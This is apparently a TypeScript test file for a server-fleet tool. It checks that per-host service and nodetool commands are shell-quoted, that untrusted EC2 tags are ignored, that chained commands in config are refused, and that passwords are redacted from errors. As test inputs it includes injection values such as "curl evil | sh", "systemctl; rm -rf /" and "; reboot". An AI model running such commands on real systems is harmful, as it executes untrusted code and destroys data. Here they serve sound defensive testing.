// Per-host clients: what a probe and a runbook run on a node, from one rule.

import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { clientsFor, clientsOf, EngineProbes, engineOptionsFromConfig, NODETOOL_TAG, SERVICE_TAG } from '../../../src/backends/engines/index.js';
import { createInventoryBackends } from '../../../src/backends/inventory/index.js';
import { parseInventory } from '../../../src/backends/inventory/inventory-file.js';
import type { Shell } from '../../../src/backends/ports.js';
import { loadConfig } from '../../../src/config/load.js';
import { configSchema, type Config } from '../../../src/config/schema.js';
import type { Instance } from '../../../src/domain/types.js';
import { ConfigError } from '../../../src/errors.js';
import type { Json, RunContext } from '../../../src/actions/engine/types.js';

// A runbook's context is what clientsOf takes (checked by the compiler).
export type RunContextFits = RunContext<unknown, Json> extends Parameters<typeof clientsOf>[0] ? true : never;
const fits: RunContextFits = true;

const INVENTORY = `defaults:
  engine: cassandra
  cluster: events
hosts:
  - name: cass-1
    host: 10.0.2.1
    nodetool: /opt/x/nodetool
    service: systemctl --user
  - name: cass-2
    host: 10.0.2.2
`;

const noShell: Shell = {
  exec: () => Promise.reject(new Error('no shell in this test')),
  loginCommand: () => 'ssh',
  close: async () => undefined,
};

async function inventoryFleet() {
  const dir = mkdtempSync(join(tmpdir(), 'ns-clients-'));
  writeFileSync(join(dir, 'fleet.yaml'), INVENTORY);
  const config: Config = { ...configSchema.parse({}), target: 'inventory', inventory: join(dir, 'fleet.yaml'), stateDir: join(dir, 'state') };
  const backends = await createInventoryBackends(config, { shell: noShell });
  const { instances } = await backends.inventory.discover();
  const byName = (name: string) => instances.find((i) => i.name === name)!;
  return { config, backends, byName };
}

describe('clientsFor', () => {
  it("gives an inventory host its own nodetool and service manager, and the others the configured ones", async () => {
    const { config, backends, byName } = await inventoryFleet();
    const sources = { engines: config.engines, target: backends.target };
    const own = clientsFor(byName('cass-1'), sources);
    expect(own.nodetool).toBe('/opt/x/nodetool');
    expect(own.service.stop('cassandra')).toBe('systemctl --user stop cassandra');
    // A runbook asks with its context.
    expect(fits).toBe(true);
    expect(clientsOf({ config, backends }, byName('cass-1')).nodetool).toBe('/opt/x/nodetool');
    const other = clientsFor(byName('cass-2'), sources);
    expect(other.nodetool).toBe('nodetool');
    expect(other.mysqlClient).toBe('mysql');
    expect(other.service.start('cassandra')).toBe('sudo systemctl start cassandra');
    expect(other.service.isActive('mariadb@3307.service')).toBe('sudo systemctl is-active mariadb@3307.service');
    // A unit name is one word to the shell, whatever it holds.
    expect(other.service.start("x'; reboot")).toBe(`sudo systemctl start 'x'\\''; reboot'`);
  });

  it('ignores the same tags on an EC2 instance: a tag there is not trusted to name a command', () => {
    const node = {
      id: 'i-1', name: 'cass-1', privateIp: '10.0.2.1', tags: { [NODETOOL_TAG]: 'curl evil | sh; nodetool', [SERVICE_TAG]: 'evil' },
    } as unknown as Instance;
    const engines = { ...configSchema.parse({}).engines, nodetool: 'sudo -u cassandra nodetool' };
    const aws = clientsFor(node, { engines, target: { kind: 'aws' } });
    expect(aws.nodetool).toBe('sudo -u cassandra nodetool');
    expect(aws.service.stop('cassandra')).toBe('sudo systemctl stop cassandra');
    expect(clientsFor(node, { engines, target: 'sim' }).nodetool).toBe('sudo -u cassandra nodetool');
    expect(clientsFor(node, { engines, target: 'inventory' }).nodetool).toBe('curl evil | sh; nodetool');
  });

  it('is the rule the probes use: the probe runs the host\'s own nodetool', async () => {
    const { config, byName } = await inventoryFleet();
    const commands: string[] = [];
    const shell: Shell = {
      exec: async (_n, command) => {
        commands.push(command);
        return { code: 1, signal: null, stdout: '', stderr: 'nodetool: command not found' };
      },
      loginCommand: () => 'ssh',
      close: async () => undefined,
    };
    const probes = new EngineProbes(shell, engineOptionsFromConfig(config));
    await expect(probes.probe(byName('cass-1'), 'cassandra')).rejects.toThrow(/nodetool status failed/);
    await expect(probes.probe(byName('cass-2'), 'cassandra')).rejects.toThrow(/nodetool status failed/);
    expect(commands).toEqual(['/opt/x/nodetool status', 'nodetool status']);
    expect(probes.clientsFor(byName('cass-1')).service.start('cassandra')).toBe('systemctl --user start cassandra');
  });

  it("keeps a password in the command out of a probe's error", async () => {
    const config: Config = { ...configSchema.parse({ engines: { nodetool: 'nodetool -u cassandra -pw S3cret' }, secrets: ['hunter22'] }), target: 'sim', stateDir: '/tmp' };
    const shell: Shell = {
      exec: async (n, command) => {
        throw new Error(`${n.name}: timed out after 10000 ms (running): "${command} hunter22"; its channel was closed`);
      },
      loginCommand: () => 'ssh',
      close: async () => undefined,
    };
    const node = { id: 'c1', name: 'cass-1', privateIp: '10.0.0.1', tags: {} } as unknown as Instance;
    const err = (await new EngineProbes(shell, engineOptionsFromConfig(config)).probe(node, 'cassandra').catch((e: unknown) => e)) as Error;
    expect(err.message).toContain('cass-1: timed out');
    expect(err.message).toContain('-pw [redacted]');
    expect(err.message).not.toMatch(/S3cret|hunter22/);
  });
});

describe('service command settings', () => {
  function configError(text: string): ConfigError {
    const d = mkdtempSync(join(tmpdir(), 'ns-clients-config-'));
    const file = join(d, 'nightshift.yaml');
    writeFileSync(file, text);
    try {
      loadConfig({ config: file }, { env: { XDG_STATE_HOME: d }, cwd: d });
    } catch (err) {
      if (err instanceof ConfigError) return err;
      throw err;
    }
    throw new Error('no error');
  }

  it('config: engines.serviceCommand, default sudo systemctl; a second command is refused naming file, line and key', () => {
    expect(configSchema.parse({}).engines.serviceCommand).toBe('sudo systemctl');
    const err = configError('refreshSeconds: 5\nengines:\n  nodetool: nodetool\n  serviceCommand: "systemctl; rm -rf /"\n');
    expect(err.key).toBe('engines.serviceCommand');
    expect(err.line).toBe(4);
    expect(err.message).toMatch(/nightshift\.yaml:4: engines\.serviceCommand: one command on one line/);
  });

  it('inventory: hosts[].service and defaults.service are checked the same way', () => {
    const bad = (text: string) => {
      try {
        parseInventory('/etc/fleet.yaml', text);
      } catch (err) {
        if (err instanceof ConfigError) return err;
        throw err;
      }
      throw new Error('no error');
    };
    const host = bad(INVENTORY.replace('service: systemctl --user', 'service: "systemctl --user\\nreboot"'));
    expect([host.line, host.key]).toEqual([8, 'hosts[0].service']);
    expect(host.problem).toMatch(/one command on one line/);
    const empty = bad(INVENTORY.replace('  cluster: events\n', '  cluster: events\n  service: ""\n'));
    expect([empty.line, empty.key]).toEqual([4, 'defaults.service']);
    expect(empty.problem).toMatch(/a command, e.g. `sudo systemctl`/);
  });
});
